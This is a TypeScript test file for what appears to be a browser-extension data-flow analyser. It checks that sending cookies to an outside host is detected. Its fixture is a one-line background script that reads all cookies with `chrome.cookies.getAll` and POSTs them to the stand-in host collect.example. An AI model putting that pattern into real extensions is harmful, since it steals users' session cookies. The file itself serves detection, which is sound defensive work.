import { expect, test } from 'vitest';
import { flowsOf } from './flowsOf.ts';
import { factsOf } from '../testing/examples.ts';
import { sample } from '../testing/sample.ts';

/** Where the background sends cookies. */
async function hostsOf(address: string, before = ''): Promise<readonly (string | undefined)[]> {
  const background = `${before} chrome.cookies.getAll({}, (all) => fetch(${address}, { method: 'POST', body: JSON.stringify(all) }));`;
  const facts = await factsOf(
    sample({ background, manifest: { permissions: ['cookies'], host_permissions: ['<all_urls>'] } }),
  );
  return facts.whole(flowsOf).flows.flatMap(({ sink }) => (sink.kind === 'network' ? [sink.to] : []));
}

const OTHER = 'https://collect.example/';

test.each<[address: string, before?: string]>([
  [`self.mine ? '/api' : '${OTHER}'`],
  [`self.mine ? '${OTHER}' : '/api'`],
  [`self.mine ? 'http://localhost:3000/' : '${OTHER}'`],
  [`self.mine ? chrome.runtime.getURL('all.json') : '${OTHER}'`],
  [`self.mine ? 'data:,' : '${OTHER}'`],
  [`self.a ? '/a' : self.b ? '/b' : '${OTHER}'`],
  [`new URL('/', self.mine ? location.origin : '${OTHER}')`],
  [`new URL(self.mine ? '/api' : '${OTHER}', location.href)`],
  ['one', `const one = self.mine ? '/api' : '${OTHER}';`],
])('of addresses that are chosen, %s, that of another computer counts', async (address, before) => {
  expect(await hostsOf(address, before)).toContain(OTHER);
});

test('where all are its own, nothing is sent to others', async () => {
  expect((await hostsOf("self.mine ? '/api' : '/other'")).filter((to) => to?.includes('//'))).toEqual([]);
});
